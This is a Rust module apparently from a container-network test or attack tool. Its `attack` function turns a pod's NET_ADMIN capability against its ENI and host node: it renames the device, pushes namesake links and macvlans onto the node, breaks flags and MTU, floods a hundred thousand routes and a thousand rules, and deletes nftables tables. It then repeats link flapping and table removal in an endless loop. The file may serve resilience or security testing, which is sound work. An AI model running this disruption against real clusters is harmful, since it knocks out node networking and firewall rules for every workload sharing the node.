//! What a pod with `NET_ADMIN` can do against its ENI and its node, all of it, and then again and again.

mod flood;
mod link;

use std::{io, thread, time::Duration};

use anyhow::Context;
use nix::sys::socket::SockProtocol;

use crate::{netlink::Netlink, raw};
use link::Victim;

/// A step's name and what it sends.
type Step = (&'static str, fn(&Netlink, &Victim) -> io::Result<()>);

/// Once, in this order: links that are to survive the pod come before the device is unrecognizable.
const STEPS: &[Step] = &[
    (
        "links of the device's name on the node",
        link::push_namesakes,
    ),
    (
        "a link on the node with the device's altname",
        link::push_altname,
    ),
    ("macvlans of the device on the node", link::push_macvlans),
    ("macvlans of the device", link::macvlans),
    ("a VLAN of the device", link::vlan),
    ("an alias that is not UTF-8", link::alias),
    ("altnames", link::altnames),
    ("another name", link::rename),
    ("MTU 576", link::small),
    ("promiscuous, no ARP, a queue of 1", link::flags),
    ("a thousand rules", flood::rules),
    ("a hundred thousand routes", flood::routes),
    ("no table of nftables", flood::no_tables),
];
/// Between two rounds.
const PAUSE: Duration = Duration::from_millis(10);

/// Attacks the ENI of this name and goes on until ended; prints a line for each step, and `attacked` after the last one.
pub fn attack(interface: &str) -> anyhow::Result<()> {
    let victim = Victim::find(interface)?;
    let netlink = Netlink::open(SockProtocol::NetlinkRoute).context("open a netlink socket")?;
    let forms = raw::forms::Forms::open(interface)?;
    for (name, step) in STEPS {
        match step(&netlink, &victim) {
            Ok(()) => println!("done: {name}"),
            Err(error) => println!("refused: {name}: {error}"),
        }
    }
    println!("attacked");
    for round in 0_u32.. {
        // What is refused is tried again in the next round.
        let _ = link::flap(&netlink, &victim, round);
        let _ = link::push_namesakes(&netlink, &victim);
        let _ = flood::no_tables(&netlink, &victim);
        forms.send();
        thread::sleep(PAUSE);
    }
    Ok(())
}
